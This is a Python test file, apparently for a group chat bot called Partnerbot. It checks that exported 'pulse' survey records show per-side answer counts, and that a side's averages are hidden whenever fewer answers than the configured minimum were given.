PULSE_OPENED = ("ana", "pulse.opened", "P-1", "period: 20261123T100500Z; closes_at: 2026-11-26T10:05:00+00:00; "
                                              "members: 5")
PULSE_ANSWERED = [(name, "pulse.answered", "P-1", f"period: 20261123T100500Z; side: {side}")
                  for name, side in (("ana", "a"), ("rita", "a"), ("ravi", "a"), ("dana", "b"), ("sam", "b"))]
SIDE_A_SHOWN = "side A: 3 of 3 answered, averages risk 4.0, resources 3.0, rewards 4.0, vision 2.0, values 4.0"


async def test_details_of_pulse_rows_give_counts_not_people_and_no_averages_of_a_side_with_too_few_answers(server):
    chat = server.chat()
    await answer_a_pulse(server, chat)

    pulse_rows = await export_rows(server, chat, ("pulse.",))
    assert pulse_rows == [PULSE_OPENED, *PULSE_ANSWERED, (
        "Partnerbot", "pulse.closed", "P-1",
        f"period: 20261123T100500Z; {SIDE_A_SHOWN}; side B: too few answers to show (2 of 2)")]
    assert "secret" not in str(pulse_rows)  # no comment, ever: answers are logged by side only


async def test_the_export_shows_a_small_sides_averages_once_the_threshold_allows_it(schema_url, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    async with serving(schema_url, {"PARTNERBOT_CADENCE__PULSE__MIN_ANSWERS": "2"}) as lax:
        chat = lax.chat()
        await answer_a_pulse(lax, chat)
        closed = (await export_rows(lax, chat, ("pulse.closed",)))[0][3]
        assert closed == (f"period: 20261123T100500Z; {SIDE_A_SHOWN}; "
                          f"side B: 2 of 2 answered, averages risk 1.0, resources 1.0, rewards 1.0, vision 1.0, values 1.0")
    # the same log exported under a threshold of 3: side B's averages, logged when 2 were enough, stay hidden
    async with serving(schema_url) as strict:
        closed = (await export_rows(strict, strict.chat(), ("pulse.closed",)))[0][3]
        assert closed == f"period: 20261123T100500Z; {SIDE_A_SHOWN}; side B: too few answers to show (2 of 2)"
